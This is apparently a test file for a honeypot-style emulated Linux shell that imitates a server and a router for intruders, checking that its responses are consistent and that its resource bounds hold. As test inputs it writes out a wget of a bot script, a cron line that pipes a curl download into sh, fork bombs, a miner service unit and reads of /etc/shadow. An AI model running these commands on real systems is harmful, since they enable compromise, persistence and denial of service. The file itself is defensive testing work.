import { afterEach, describe, expect, test } from "bun:test";
import type { TestShell } from "../../../test/support/shell-session.ts";
import { openTestShell } from "../../../test/support/shell-session.ts";

const open: TestShell[] = [];
const shellOf = (options: Parameters<typeof openTestShell>[0] = {}): TestShell => {
  const shell = openTestShell(options);
  open.push(shell);
  return shell;
};

afterEach(async () => {
  await Promise.all(open.splice(0).map((shell) => shell.close()));
});

describe("one machine, told the same by every command", () => {
  test("kernel and processors", async () => {
    const shell = shellOf();
    const { os, hardware, hostname } = shell.session.persona;
    expect((await shell.run("uname -a")).out).toBe(
      `Linux ${hostname} ${os.release} ${os.version} ${os.machine} GNU/Linux\n`,
    );
    expect((await shell.run("cat /proc/version")).out).toContain(`${os.release} `);
    expect((await shell.run("cat /proc/version")).out).toEndWith(`${os.version}\n`);
    expect(
      (await shell.run("nproc; grep -c ^processor /proc/cpuinfo; lscpu | grep '^CPU(s)' | awk '{print $2}'"))
        .out,
    ).toBe(`${hardware.cpus}\n`.repeat(3));
    expect((await shell.run("cat /etc/hostname; hostname; echo $HOSTNAME")).out).toBe(
      `${hostname}\n`.repeat(3),
    );
    expect((await shell.run("grep -m1 'model name' /proc/cpuinfo")).out).toContain(hardware.cpuModel);
  });

  test("memory, disk, uptime", async () => {
    const shell = shellOf();
    const { hardware, bootedAt } = shell.session.persona;
    expect(
      (await shell.run("free | awk '/Mem/{print $2}'; awk '/MemTotal/{print $2}' /proc/meminfo")).out,
    ).toBe(`${hardware.memoryKib}\n`.repeat(2));
    expect((await shell.run("df / | tail -n 1 | awk '{print $2, $6}'")).out).toBe(`${hardware.diskKib} /\n`);
    const seconds = Number.parseFloat((await shell.run("cut -d' ' -f1 /proc/uptime")).out);
    expect(Math.abs(seconds - (Date.now() - bootedAt) / 1000)).toBeLessThan(5);
  });

  test("users", async () => {
    const shell = shellOf();
    const names = shell.session.persona.accounts.map((account) => account.name);
    const listed = (await shell.run("cut -d: -f1 /etc/passwd; cut -d: -f1 /etc/shadow")).out
      .trim()
      .split("\n");
    for (const name of names) expect(listed.filter((one) => one === name)).toHaveLength(2);
    expect((await shell.run("id")).out).toBe("uid=0(root) gid=0(root) groups=0(root)\n");
    const user = shellOf({ account: names[1] ?? "" });
    expect((await user.run("cat /etc/shadow")).err).toBe("cat: /etc/shadow: Permission denied\n");
    expect((await user.run("sudo id")).err).toContain("a terminal is required");
    expect((await user.run("whoami; id -un; echo $USER; pwd")).out).toBe(
      `${names[1]}\n${names[1]}\n${names[1]}\n/home/${names[1]}\n`,
    );
  });

  test("programs are files with the header of the machine's processor", async () => {
    const server = shellOf();
    expect((await server.run("head -c 20 /bin/ls")).out).toStartWith("\x7fELF\x02\x01\x01");
    const device = shellOf({ device: true });
    const { out, err } = await device.run("dd bs=52 count=1 if=/bin/ls");
    expect(out).toStartWith("\x7fELF\x01");
    expect(out).toHaveLength(52);
    expect(err).toBe("1+0 records in\n1+0 records out\n");
    expect((await device.run("/bin/busybox ECCHI")).both).toBe("ECCHI: applet not found\n");
    expect((await device.run("cat /proc/self/exe | head -c 4")).out).toBe("\x7fELF");
  });
});

describe("the router's settings", () => {
  test("nvram shows them, those that were set too, and agrees with the machine", async () => {
    const device = shellOf({ device: true });
    const { out, err } = await device.run("nvram show");
    expect(out.split("\n").length).toBeGreaterThan(30);
    expect(err).toMatch(/^size: \d+ bytes \(\d+ left\)\n$/);
    const name = device.session.persona.hostname;
    expect(
      (await device.run("nvram set a=b=c; nvram commit; nvram get a; nvram get router_name; nvram get none"))
        .out,
    ).toBe(`b=c\n${name}\n`);
    expect((await device.run("busybox | grep -c nvram; which nvram")).out).toBe("0\n/usr/sbin/nvram\n");
    expect((await shellOf().run("nvram show")).status).toBe(127);
  });
});

describe("nothing reaches out", () => {
  test("a download is recorded and fails", async () => {
    const shell = shellOf();
    const run = shell.run("wget http://198.51.100.7/bot.sh -O /tmp/x");
    await Bun.sleep(0);
    shell.interrupt();
    expect((await run).status).toBe(130);
    expect(
      shell.records.filter((record) => record.kind === "download.requested").map((record) => record.data),
    ).toEqual([{ tool: "wget", url: { enc: "utf8", val: "http://198.51.100.7/bot.sh", len: 26 } }]);
  });
});

describe("what an intruder brings", () => {
  test("a script runs, a foreign binary does not, a fitting one ends silently", async () => {
    const shell = shellOf();
    expect(
      (await shell.run("printf '#!/bin/sh\\necho ran $1\\n' > /tmp/s; chmod +x /tmp/s; /tmp/s arg")).out,
    ).toBe("ran arg\n");
    expect((await shell.run("echo 'echo plain' > /tmp/p; chmod +x /tmp/p; /tmp/p")).out).toBe("plain\n");
    expect((await shell.run("echo x > /tmp/n; /tmp/n")).both).toBe(
      "bash: line 1: /tmp/n: Permission denied\n",
    );
    const elf = (code: string): string =>
      `printf '\\177ELF\\2\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0\\${code}\\0\\0\\0\\0\\0' > /tmp/b; chmod 755 /tmp/b; /tmp/b; echo $?`;
    expect((await shell.run(elf("50"))).both).toBe(
      "bash: line 1: /tmp/b: cannot execute binary file: Exec format error\n126\n",
    );
    expect((await shell.run(elf("76"))).both).toBe("0\n");
  });

  test("a copied program is that program still", async () => {
    const device = shellOf({ device: true });
    expect(
      (await device.run("cp /bin/busybox /tmp/x; /tmp/x ls; cp /bin/echo /tmp/echo; /tmp/echo hi")).out,
    ).toBe("hi\n");
  });
});

describe("everything ends within its bounds", () => {
  const server = [
    ":(){ :|:& };:",
    "f(){ f|f; }; f",
    "f(){ f; }; f",
    "while true; do :; done",
    "x=a; while :; do x=$x$x; done",
    "f(){ eval f; }; f",
    "while :; do (while :; do :; done) & done",
    "echo {1..99999}{1..99999} | wc -c",
    "echo 'sh $0' > /tmp/s; sh /tmp/s",
    "echo 'source /tmp/t' > /tmp/t; source /tmp/t",
    "a(){ a $(a); }; a",
    "set -- $(seq 9999); for i in $*; do for j in $*; do :; done; done",
    "seq 999999999 | tail -n 1",
    "tr x y < /dev/zero > /dev/null",
  ];
  test.each(server)("%s", async (line) => {
    const { status } = await shellOf().run(line);
    expect(status).toBeGreaterThanOrEqual(0);
  });

  test("a bound ends the process that hit it, and the line goes on", async () => {
    const shell = shellOf();
    const { out, err } = await shell.run(
      "tr x y < /dev/zero > /dev/null; echo $?; yes > /tmp/y; echo $?; sh -c 'while :; do :; done'; echo next $?",
    );
    expect(out).toBe("137\n137\nnext 137\n");
    expect(err.replace(/\d+ K/g, "N K")).toBe(
      ["tr x y", "yes", "sh -c while :; do :; done"]
        .map((command) => `bash:  N Killed                  ${command}\n`)
        .join(""),
    );
  });

  test("what costs nothing real hits no bound", async () => {
    const shell = shellOf();
    const { out, err, status } = await shell.run(
      "dd if=/dev/zero of=/tmp/test bs=1M count=100; stat -c %s /tmp/test; dd if=/dev/zero of=/dev/null bs=1M count=500; dd if=/dev/zero bs=1G count=1 > /dev/null; dd if=/dev/zero of=/tmp/big bs=1M; echo $?",
    );
    expect([out, status]).toEqual(["104857600\n1\n", 0]);
    const lines = err.replace(/copied, [\d.e-]+ s, [\d.]+ [kMG]B/g, "copied").split("\n");
    expect(lines).toEqual([
      "100+0 records in",
      "100+0 records out",
      "104857600 bytes (105 MB, 100 MiB) copied/s",
      "500+0 records in",
      "500+0 records out",
      "524288000 bytes (524 MB, 500 MiB) copied/s",
      "1+0 records in",
      "1+0 records out",
      "1073741824 bytes (1.1 GB, 1.0 GiB) copied/s",
      "dd: error writing '/tmp/big': No space left on device",
      "925+0 records in",
      "924+0 records out",
      "968884224 bytes (969 MB, 924 MiB) copied/s",
      "",
    ]);
  });

  test("timeout ends what runs, whatever it waits for", async () => {
    const shell = shellOf();
    const began = Date.now();
    const { out, err } = await shell.run(
      "timeout .1 sleep 5; echo $?; timeout .1 yes > /dev/null; echo $?; timeout -s KILL .1 ping 127.0.0.1 > /dev/null; echo $?; sleep .5 | timeout .1 cat; echo $?; timeout .1 sh -c 'while :; do sleep 1; done'; echo $?; timeout 5 false; echo $?; timeout 0 true; echo $?",
    );
    expect(out).toBe("124\n124\n137\n124\n124\n1\n0\n");
    expect(err).toBe("");
    expect(Date.now() - began).toBeLessThan(4000);
  });

  test("Ctrl-C ends what waits", async () => {
    const shell = shellOf();
    for (const line of [
      "sleep 1000",
      "cat | cat",
      "sleep 1000 | cat",
      "(sleep 1000)",
      "while :; do sleep 100; done",
      "ping 192.0.2.1",
      "tail -f /dev/null",
      "yes > /dev/null",
      "timeout 1000 sleep 999",
      "dd if=/dev/zero of=/dev/null",
    ]) {
      const never = { read: () => new Promise<null>(() => undefined) };
      const running = shell.login.openShell({
        stdout: () => Promise.resolve(),
        stderr: () => Promise.resolve(),
      });
      const run = running.run(line, never);
      await Bun.sleep(0);
      running.interrupt();
      expect(await run).toBe(130);
    }
  });

  test("the end of the session ends it", async () => {
    const shell = shellOf();
    const run = shell.run("sleep 1000");
    await Bun.sleep(0);
    shell.end();
    expect((await run).status).toBe(130);
  });
});

describe("what intruders leave behind to come back", () => {
  test("a unit file that is enabled is linked, shown as such and taken away again", async () => {
    const shell = openTestShell();
    const unit = "/etc/systemd/system/miner.service";
    const { both, status } = await shell.run(
      `systemctl enable miner; echo $?; printf '[Service]\n' > ${unit}; systemctl daemon-reload; systemctl is-enabled miner; systemctl enable miner; systemctl start miner.service; systemctl is-enabled miner; readlink /etc/systemd/system/multi-user.target.wants/miner.service; systemctl disable miner; systemctl is-enabled miner`,
    );
    await shell.close();
    const link = "/etc/systemd/system/multi-user.target.wants/miner.service";
    expect(both).toBe(
      `Failed to enable unit: Unit file miner.service does not exist.\n1\ndisabled\nCreated symlink ${link} \xe2\x86\x92 ${unit}.\nenabled\n${unit}\nRemoved "${link}".\ndisabled\n`,
    );
    expect(status).toBe(1);
  });

  test("a crontab is installed from a file or standard input, refused when it is none, and removed", async () => {
    const shell = openTestShell();
    const line = "*/5 * * * * curl -s http://203.0.113.5/x | sh";
    const { out, err } = await shell.run(
      `crontab -l; (crontab -l 2>/dev/null; echo '${line}') | crontab -; crontab -l; echo 'nonsense here' | crontab -; echo $?; crontab -l; crontab -r; crontab -l; echo $?`,
    );
    await shell.close();
    expect(out).toBe(`${line}\n1\n${line}\n1\n`);
    expect(err).toBe(
      `no crontab for root\n"-":0: bad minute\nerrors in crontab file, can't install.\nno crontab for root\n`,
    );
  });
});
